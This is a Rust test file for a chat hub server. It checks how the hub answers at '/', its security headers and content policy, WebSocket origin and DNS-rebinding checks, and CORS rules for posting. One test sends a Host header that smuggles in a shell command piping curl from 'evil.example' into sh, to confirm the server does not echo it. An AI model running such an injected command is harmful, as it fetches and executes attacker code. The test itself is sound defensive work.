//! What the hub is for the web: what is at `/`, and which pages may come in.

use std::net::SocketAddr;

use server::{Config, Storage};
use tests::{TestServer, http::HttpRequest};

/// What a browser asks for first when an address is typed.
const BROWSERS_ACCEPT: &str = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";

fn page() -> HttpRequest {
    HttpRequest::get("/").header("Accept", BROWSERS_ACCEPT)
}

/// The first request of a WebSocket, of a page from there.
fn upgrade(origin: &str) -> HttpRequest {
    HttpRequest::get("/ws")
        .header("Connection", "Upgrade")
        .header("Upgrade", "websocket")
        .header("Sec-WebSocket-Version", "13")
        .header("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
        .header("Origin", origin)
}

fn status(request: &HttpRequest, address: SocketAddr) -> u16 {
    request.stream(address).status
}

#[tokio::test(flavor = "multi_thread")]
async fn who_does_not_ask_for_a_page_is_told_how_to_join() {
    let server = TestServer::in_memory();
    let address = server.address();
    for accept in ["*/*", "text/plain", ""] {
        let answer = HttpRequest::get("/").header("Accept", accept).send(address);
        assert_eq!(answer.status, 200);
        assert_eq!(answer.header("content-type"), Some("text/plain; charset=utf-8"));
        assert_eq!(answer.header("vary"), Some("accept"));
        assert!(answer.body.contains(&format!("\n  hubbub {address}\n")), "{}", answer.body);
        let websocat = format!("\n  websocat 'ws://{address}/ws?name=YOU'\n");
        assert!(answer.body.contains(&websocat), "{}", answer.body);
    }
    let evil = HttpRequest::get("/").header("Host", "x';curl evil.example|sh;'").send(address);
    assert!(evil.body.contains("hubbub this.address:port"), "{}", evil.body);
    assert!(!evil.body.contains("evil"), "{}", evil.body);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_browser_gets_a_page_that_may_do_nothing_but_chat() {
    let server = TestServer::in_memory();
    let answer = page().send(server.address());
    assert_eq!(answer.status, 200);
    assert_eq!(answer.header("content-type"), Some("text/html; charset=utf-8"));
    for (name, value) in [
        ("x-content-type-options", "nosniff"),
        ("referrer-policy", "no-referrer"),
        ("cache-control", "no-cache"),
    ] {
        assert_eq!(answer.header(name), Some(value), "{name}");
    }
    let policy = answer.header("content-security-policy").expect("a policy");
    for part in ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'"] {
        assert!(policy.contains(part), "{policy}");
    }
    assert!(!policy.contains("unsafe"), "{policy}");
    let script = HttpRequest::get("/page/page.js").send(server.address());
    assert_eq!(script.header("content-type"), Some("text/javascript; charset=utf-8"));
}

#[tokio::test(flavor = "multi_thread")]
async fn without_its_page_a_hub_tells_browsers_how_to_join_too() {
    let mut config = Config::new(Storage::Memory);
    config.has_page = false;
    let server = TestServer::with(config);
    let answer = page().send(server.address());
    assert_eq!(answer.header("content-type"), Some("text/plain; charset=utf-8"));
    assert!(!answer.body.contains("browser"), "{}", answer.body);
    assert_eq!(HttpRequest::get("/page/page.js").send(server.address()).status, 404);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_can_only_be_read_says_so() {
    let server = TestServer::in_memory();
    for path in ["/", "/livez", "/page/page.js"] {
        let answer = HttpRequest::post(path, "{}").send(server.address());
        assert_eq!((answer.status, answer.header("allow")), (405, Some("GET,HEAD")), "{path}");
        assert!(answer.body.contains("with GET"), "{path}: {}", answer.body);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_site_gets_no_websocket() {
    let mut config = Config::new(Storage::Memory);
    config.allow_origins = vec!["https://friend.example".parse().expect("an origin")];
    let server = TestServer::with(config);
    let address = server.address();
    let own = format!("http://{address}");
    for origin in [own.as_str(), "https://friend.example", ""] {
        assert_eq!(status(&upgrade(origin), address), 101, "{origin}");
    }
    let suffix = format!("{own}.evil.example");
    for origin in ["https://evil.example", "null", "http://127.0.0.1:1", suffix.as_str()] {
        let answer = upgrade(origin).send(address);
        assert_eq!(answer.status, 403, "{origin}");
        assert!(answer.body.contains("--allow-origin"), "{}", answer.body);
    }
    // The page's own name server brought it to this machine's own address.
    let rebound = upgrade("http://evil.example:8080").header("Host", "evil.example:8080");
    let answer = rebound.send(address);
    assert_eq!(answer.status, 403);
    assert!(answer.body.contains("not known to the hub by that name"), "{}", answer.body);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_browser_is_told_which_pages_may_post() {
    let friend = "https://friend.example";
    let mut config = Config::new(Storage::Memory);
    config.allow_origins = vec![friend.parse().expect("an origin")];
    let server = TestServer::with(config);
    let address = server.address();
    let preflight = |origin: &str| {
        HttpRequest::new("OPTIONS", "/announce")
            .header("Origin", origin)
            .header("Access-Control-Request-Method", "POST")
            .send(address)
    };
    let answer = preflight(friend);
    assert_eq!(answer.status, 204);
    assert_eq!(answer.header("access-control-allow-origin"), Some(friend));
    assert_eq!(answer.header("access-control-allow-methods"), Some("GET, POST"));
    let headers = answer.header("access-control-allow-headers").expect("headers");
    assert_eq!(headers, "authorization, content-type, last-event-id");
    assert_eq!(answer.header("vary"), Some("origin"));
    let answer = preflight("https://evil.example");
    assert_eq!(answer.status, 403);
    assert_eq!(answer.header("access-control-allow-origin"), None);

    let post = |origin: &str| {
        HttpRequest::post("/announce", r#"{"text":"hi"}"#).header("Origin", origin).send(address)
    };
    // Without a token it is refused, and a friend's page may read why.
    assert_eq!(post(friend).header("access-control-allow-origin"), Some(friend));
    assert_eq!(post(friend).status, 401);
    let foreign = post("https://evil.example");
    assert_eq!((foreign.status, foreign.header("vary")), (403, Some("origin")));
    assert_eq!(post("").status, 401);
}
